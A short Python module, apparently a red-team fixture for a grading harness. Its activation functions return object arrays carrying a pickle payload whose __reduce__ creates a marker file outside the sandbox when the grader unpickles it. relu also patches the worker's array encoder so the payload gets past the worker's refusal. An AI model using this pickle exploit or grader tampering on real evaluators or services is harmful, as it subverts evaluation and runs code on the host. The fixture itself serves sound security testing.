"""Attack: answer with object arrays holding a pickle payload that, once unpickled,
creates a file in a folder of the test's.

`relu` goes further: it rewires the worker's own encoder so that the payload
crosses the wire as a pickled .npy blob instead of being refused in the worker.
"""

import io
import sys

import numpy as np

MARKER = "__OUTSIDE__/unpickled-by-the-grader"


class _Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))


def _pickled_npy(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _payload(*args, **kwargs):
    return np.array([_Payload()] * max(1, np.size(args[-1])), dtype=object)


def relu(x):
    worker = sys.modules.get("__main__")
    if hasattr(worker, "_array_bytes"):
        worker._array_bytes = _pickled_npy
    return _payload(x)


step = sigmoid = tanh = _payload
relu_backward = sigmoid_backward = tanh_backward = _payload
